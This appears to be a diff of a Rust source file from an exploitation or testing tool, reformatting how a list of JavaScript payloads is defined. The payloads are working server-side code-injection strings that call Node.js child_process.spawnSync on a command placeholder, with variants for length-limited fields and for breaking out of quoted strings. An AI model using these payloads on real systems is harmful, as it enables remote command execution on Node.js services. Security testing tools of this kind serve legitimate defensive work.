@@ -9,11 +9,7 @@
 use super::{Payload, PayloadClass};
 
 const fn javascript(id: &'static str, template: &'static str) -> Payload {
-    Payload {
-        id,
-        class: PayloadClass::JavaScriptCode,
-        template,
-    }
+    Payload { id, class: PayloadClass::JavaScriptCode, template }
 }
 
 /// Best first.
@@ -40,10 +36,7 @@ pub(super) const PAYLOADS: &[Payload] = &[
         "(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')",
     ),
     // Short, for a field with a length limit; needs a CommonJS main module, as our client is.
-    javascript(
-        "javascript-short",
-        "process.mainModule.require('child_process').spawnSync('{C}')",
-    ),
+    javascript("javascript-short", "process.mainModule.require('child_process').spawnSync('{C}')"),
     javascript(
         "javascript-short-single-quotes",
         "'+process.mainModule.require('child_process').spawnSync('{C}')+'",
